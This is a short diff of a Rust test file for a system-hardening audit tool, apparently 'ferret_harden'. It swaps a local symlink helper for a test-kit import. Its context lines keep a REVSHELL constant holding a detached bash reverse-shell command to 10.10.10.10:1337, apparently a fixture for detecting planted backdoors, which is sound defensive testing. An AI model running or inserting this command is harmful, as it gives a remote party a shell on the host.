@@ -14,6 +14,7 @@ use ferret_harden::{audit_root, Check, HardenOptions};
 use std::path::Path;
 
 use ferret_testkit::put as w;
+use ferret_testkit::put_link as link;
 
 const REVSHELL: &str = "nohup setsid bash -c 'bash -i >& /dev/tcp/10.10.10.10/1337 0>&1' & disown";
 
@@ -33,12 +34,6 @@ fn accounts(root: &Path) {
     );
     std::fs::create_dir_all(root.join("root")).unwrap();
     std::fs::create_dir_all(root.join("home/alice")).unwrap();
-}
-
-fn link(root: &Path, rel: &str, to: &str) {
-    let p = root.join(rel.trim_start_matches('/'));
-    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
-    std::os::unix::fs::symlink(to, p).unwrap();
 }
 
 /// Stock files of the same places: Debian 12 / Ubuntu 24.04 and RHEL/Rocky 9.
